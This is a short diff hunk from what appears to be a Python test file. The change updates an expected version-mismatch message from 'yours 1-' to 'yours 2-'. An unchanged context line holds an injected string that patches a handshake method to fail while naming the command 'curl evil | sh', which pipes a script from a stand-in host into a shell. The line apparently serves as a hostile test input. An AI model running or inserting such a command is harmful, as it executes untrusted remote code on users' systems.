@@ -80,7 +80,7 @@ GUESTS = {
     "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
 }
 SAID = {
-    "another version": "different rules (yours 1-",
+    "another version": "different rules (yours 2-",
     "words for a version": "different rules. Both",
     "words for a refusal": "do not fit together",
 }
